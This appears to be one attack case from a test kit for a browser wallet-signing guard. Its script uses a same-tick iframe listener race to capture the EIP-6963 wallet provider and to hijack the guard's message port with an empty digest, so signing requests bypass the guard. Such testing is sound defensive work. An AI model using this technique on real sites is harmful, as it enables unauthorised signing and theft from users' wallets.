import type { Attack } from './kit/attack.ts'

export default {
  family: 'frames',
  how: "Adds listeners to a fresh frame's window in the same tick, to hear the wallet's announcement and the guard's port before the guard does.",
  script: `
    const frame = attack.frame()
    const view = frame.contentWindow
    const use = (event) => event.detail?.provider?.request(attack.sign)
    view.addEventListener('eip6963:announceProvider', use, true)
    view.addEventListener('plainsign:port', (event) => {
      event.stopImmediatePropagation()
      event.preventDefault()
      const port = event.ports[0]
      port.onmessage = ({ data }) => port.postMessage({ type: 'request.forward', id: data.id, digest: '' })
    }, true)
    for (let i = 0; i < 15; i++) {
      view.dispatchEvent(new view.Event('eip6963:requestProvider'))
      try { view.ethereum.request(attack.sign) } catch {}
      await attack.sleep(20)
    }
  `,
} satisfies Attack
